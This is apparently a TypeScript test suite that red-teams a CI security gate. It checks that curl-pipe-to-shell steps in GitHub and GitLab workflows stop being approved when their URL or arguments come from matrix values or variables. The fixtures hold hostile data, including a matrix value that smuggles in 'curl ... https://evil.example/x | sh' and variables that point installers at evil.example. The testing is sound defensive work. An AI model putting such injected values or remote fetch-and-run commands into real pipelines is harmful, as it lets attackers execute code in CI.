// redteam192: a fetch-and-run line whose text takes a value from elsewhere (a GitHub expression
// `${{ }}` written into the script before the shell reads it, a shell variable the job's `env:` or an
// earlier step sets, GitLab's `$[[ inputs ]]`) runs what those values say, and the change sets them:
// the same text is not the same command, so such a line vouches for nothing. A line without one, the
// start's own, keeps the gate; the line with values loses the gate even where the change keeps them.
import { gateBatch } from '../helpers/gate-batch.js';
import { cleanupTemp } from '../helpers/repo.js';

afterAll(cleanupTemp);

type Files = Record<string, string>;
const WF = '.github/workflows/ci.yml';
const CI = '.gitlab-ci.yml';
const AUDIT = 'npx gitguard audit';
const CHECKOUT = '      - uses: actions/checkout@v4\n        with:\n          fetch-depth: 0\n';
const run = (s: string): string => `      - run: ${JSON.stringify(s)}\n`;
/** The gate job: `head` its keys above the steps, `line` run before the audit. */
const gate = (head: string, line: string): Files => ({
  [WF]: `on: push\njobs:\n  gate:\n    runs-on: ubuntu-latest\n${head}    steps:\n${CHECKOUT}${run(line)}${run(AUDIT)}`,
});
const env = (name: string, value: string): string => `    env:\n      ${name}: ${JSON.stringify(value)}\n`;
const matrix = (value: string): string => `    strategy:\n      matrix:\n        rust: [${JSON.stringify(value)}]\n`;
const RUSTUP = 'curl --proto =https -sSf https://sh.rustup.rs | sh -s -- -y';
const BY_EXPR = `${RUSTUP} --default-toolchain \${{ matrix.rust }}`;
const BY_ENV = 'curl -sSf "$RUSTUP_URL" | sh -s -- -y';
const EVIL = 'stable; curl -sSf https://evil.example/x | sh #';
const gl = (vars: string, line: string): Files => ({
  [CI]: `gitguard:\n${vars}  script:\n    - ${JSON.stringify(line)}\n    - ${AUDIT}\n`,
});
const glVars = (value: string): string => `  variables:\n    URL: ${JSON.stringify(value)}\n`;
const GL_LINE = 'curl -sSf "$URL" | sh';

/**
 * Each case Alice's commit of `after` over a gate job that runs no fetch (`before`), the audit's --base
 * at `start`, which ran the line with the values it had there.
 */
function judged(title: string, start: Files, before: Files, cases: Array<[string, Files, boolean]>): void {
  describe(`redteam192: ${title}`, () => {
    const batch = gateBatch(start);
    for (const [name, after, kept] of cases)
      it(`${kept ? 'kept' : 'lost'}: ${name}`, batch.add(before, after, kept), 600_000);
  });
}

const PLAIN = gate('', 'echo hi');
judged('a GitHub expression in the line', gate(matrix('stable'), BY_EXPR), PLAIN, [
  ['the matrix value changed to run another fetch', gate(matrix(EVIL), BY_EXPR), false],
  ['the same line and value', gate(matrix('stable'), BY_EXPR), false],
]);
judged('a shell variable in the line', gate(env('RUSTUP_URL', 'https://sh.rustup.rs'), BY_ENV), PLAIN, [
  ['the variable set to another address', gate(env('RUSTUP_URL', 'https://evil.example/x'), BY_ENV), false],
]);
judged('GitLab: a variable in the line', gl(glVars('https://astral.sh/uv/install.sh'), GL_LINE), gl('', 'echo hi'), [
  ['the variable set to another address', gl(glVars('https://evil.example/x'), GL_LINE), false],
]);
judged('a line without values', gate('', RUSTUP), PLAIN, [
  ['the same line', gate('', RUSTUP), true],
  ['the same line in a command substitution', gate('', `sh -c "$(curl -fsSL https://sh.rustup.rs)"`), false],
]);
